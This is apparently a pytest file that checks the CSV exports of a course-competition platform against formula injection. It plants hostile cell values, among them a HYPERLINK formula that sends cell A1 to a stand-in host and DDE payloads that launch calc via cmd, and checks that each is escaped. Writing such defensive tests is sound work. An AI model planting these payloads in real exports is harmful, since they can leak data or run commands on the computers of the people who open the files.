"""CSV formula injection: every CSV Podium writes for a spreadsheet neutralises text that starts with =, +, -, @, a
tab or a carriage return (a spreadsheet would run it as a formula), while numbers, negative scores among them, stay
numbers.

The CSV writers (`grep -rn "csv.writer" podium/`): the grade exports, long and Canvas (services/export.py; the
staff page and `podium grades export`), the staff's submissions download (web/staff.py) and the Kaggle API's
leaderboard download (web/kaggle.py). Each is read back here as a spreadsheet would read it, cell by cell.
"""
from __future__ import annotations

import base64
import csv
import io
import re
import textwrap
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from podium.models import User
from podium.services import accounts, export, submissions, users
from podium.services.courses import get_competition, get_course, load_course
from podium.web import create_app
from tests.conftest import N_ROWS, write_course
from tests.web.helpers import PASSWORD, Browser, InlineScoring

# Written here rather than imported from the product, so that a shortened list there fails this test.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
HOSTILE = ['=HYPERLINK("http://e.test/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1", "Ann\r=1+1"]  # the last starts a formula only if a bare CR splits the row there

# Higher is better, and every score is negative: minus the share of wrong labels.
METRIC = '''
"""Minus the error rate."""
def score(solution, submission, row_id_column_name):
    return -float((solution["label"].to_numpy() != submission["label"].to_numpy()).mean())
'''


def spreadsheet_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def check_neutralised(rows: list[list[str]], planted: list[str]) -> None:
    """Every row as wide as the header (no text split a row); no cell starts a formula unless it is a plain
    number; each planted text is there whole, behind an apostrophe when it starts a formula."""
    assert all(len(row) == len(rows[0]) for row in rows), [len(row) for row in rows]
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert NUMBER.fullmatch(cell) or not cell.startswith(FORMULA_STARTS), repr(cell)
    for text in planted:
        shown = "'" + text if text.startswith(FORMULA_STARTS) else text
        assert any(cell.startswith(shown) for cell in cells), (text, rows[:3])


def negative_numbers(rows: list[list[str]], column: str) -> list[float]:
    index = rows[0].index(column)
    values = [row[index] for row in rows[1:] if row[index]]
    assert values and all(NUMBER.fullmatch(v) for v in values), values
    return [float(v) for v in values if v.startswith("-")]


@pytest.fixture
def hostile(rt, tmp_path):
    """Course c1 whose competition title starts a formula and whose metric gives negative scores; students whose
    names, emails, leaderboard names, file names and descriptions start formulas; each has a scored submission."""
    folder = write_course(tmp_path / "courses", now=datetime.now(timezone.utc),
                          extra_evaluation="higher_is_better = true",
                          cutoffs="{ A = -0.1, B = -0.4, C = -0.7, D = -1.0 }")
    toml = folder / "hw1" / "competition.toml"
    toml.write_text(toml.read_text().replace('metric = "accuracy"', 'metric = "custom:metric.py"')
                    .replace('title = "Homework hw1"', 'title = "=cmd|\' /C calc\'!A0"'))
    (folder / "hw1" / "metric.py").write_text(textwrap.dedent(METRIC))
    people = []
    with rt.db.session() as session:
        load_course(session, rt.settings, folder)
        course = get_course(session, "c1")
        comp_id = get_competition(session, "c1-hw1").id
        users.add_user(session, "ta@c1.test", course, "staff", name="Tea Assistant", password=PASSWORD)
        emails = ["=a@c1.test", "+b@c1.test", "-c@c1.test", "d@c1.test", "e@c1.test", "f@c1.test", "g@c1.test"]
        for email, text in zip(emails, HOSTILE):
            user = users.add_user(session, email, course, "student", name=text)
            if text[0] in "\t\r":
                # add_user and the profile trim leading whitespace; a name stored before they did, or restored
                # from a backup, still reaches the exports as it is.
                user.name = text
            else:
                accounts.set_leaderboard_name(session, user, course, text)  # "Ann\r=1+1" is kept as "Ann =1+1"
            people.append((user.id, users.issue_api_key(session, user)))
        session.flush()
    for i, (user_id, _) in enumerate(people):
        wrong = {0, *range(6, 7 + i % 3)}  # wrong labels among the Public rows (0-5) and the Private (6-17)
        text = "id,label\n" + "".join(f"{r},{(r % 3) + (1 if r in wrong else 0)}\n" for r in range(N_ROWS))
        sub = submissions.receive(rt.db, rt.settings, comp_id, user_id, io.BytesIO(text.encode()),
                                  HOSTILE[i] + ".csv", HOSTILE[(i + 1) % len(HOSTILE)],
                                  at=datetime.now(timezone.utc) - timedelta(minutes=10 - i))
        scored = submissions.score(rt.db, rt.settings, sub.id)
        assert scored.public_score < 0 and scored.private_score < 0
    return people


@pytest.fixture
def app(rt):
    app = create_app(runtime=rt)
    app.test_client_class = Browser
    app.extensions["podium.scoring"] = InlineScoring(rt)
    app.config["TESTING"] = True
    return app


@pytest.mark.parametrize("fmt", ["long", "canvas"])
@pytest.mark.parametrize("slack_policy", ["chronological", "optimal"])
def test_grade_exports_neutralise_text_and_keep_numbers(rt, hostile, fmt, slack_policy):
    with rt.db.session() as session:
        text = export.export_csv(session, get_course(session, "c1"), slack_policy=slack_policy, fmt=fmt)
        rows = spreadsheet_cells(text)
    with rt.db.session() as session:
        names = [u.name for u in session.query(User).filter(User.email != "ta@c1.test")]
    planted = [*names, "=a@c1.test", "+b@c1.test", "-c@c1.test"]
    if fmt == "long":
        check_neutralised(rows, planted)
        assert len(negative_numbers(rows, "private_score")) == len(HOSTILE)
    else:
        check_neutralised(rows, [n for n in planted if n.strip()] + ["=cmd|' /C calc'!A0"])


def test_the_cli_grade_export_is_neutralised(hostile, podium_cli):
    result = podium_cli("grades", "export", "c1")
    assert result.exit_code == 0, result.output
    rows = spreadsheet_cells(result.stdout)
    check_neutralised(rows, ["=a@c1.test", HOSTILE[0], "\t=1+1"])
    assert len(negative_numbers(rows, "private_score")) == len(HOSTILE)


@pytest.mark.parametrize("fmt", ["long", "canvas"])
def test_the_staff_grade_download_is_neutralised(app, hostile, fmt):
    browser = app.test_client()
    browser.signed_in_as("ta@c1.test")
    response = browser.get(f"/staff/c1/grades.csv?fmt={fmt}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    check_neutralised(spreadsheet_cells(response.get_data(as_text=True)), ["=a@c1.test", "-2+3"])


def test_the_staff_submissions_download_is_neutralised(app, hostile):
    browser = app.test_client()
    browser.signed_in_as("ta@c1.test")
    response = browser.get("/staff/c1/submissions.csv")
    assert response.status_code == 200
    rows = spreadsheet_cells(response.get_data(as_text=True))
    assert len(rows) == 1 + len(HOSTILE)
    # names, leaderboard names, emails, file names (their last path part) and descriptions (stored trimmed)
    check_neutralised(rows, [*HOSTILE, *(Path(h + ".csv").name for h in HOSTILE), "=a@c1.test"])
    assert len(negative_numbers(rows, "public_score")) == len(HOSTILE)
    assert len(negative_numbers(rows, "private_score")) == len(HOSTILE)


def test_the_kaggle_leaderboard_download_is_neutralised(app, hostile):
    _, key = hostile[0]
    token = base64.b64encode(f"=a@c1.test:{key}".encode()).decode()
    response = app.test_client().get("/api/v1/competitions/c1-hw1/leaderboard/download",
                                     headers={"Authorization": f"Basic {token}"})
    assert response.status_code == 200, response.get_data(as_text=True)
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        (name,) = archive.namelist()
        rows = spreadsheet_cells(archive.read(name).decode())
    assert rows[0] == ["TeamId", "TeamName", "SubmissionDate", "Score"] and len(rows) == 1 + len(HOSTILE)
    # The leaderboard names set through the profile, and the stand-ins of the two students without one.
    check_neutralised(rows, [*HOSTILE[:4], "Ann =1+1", "Student "])
    assert len(negative_numbers(rows, "Score")) == len(HOSTILE)
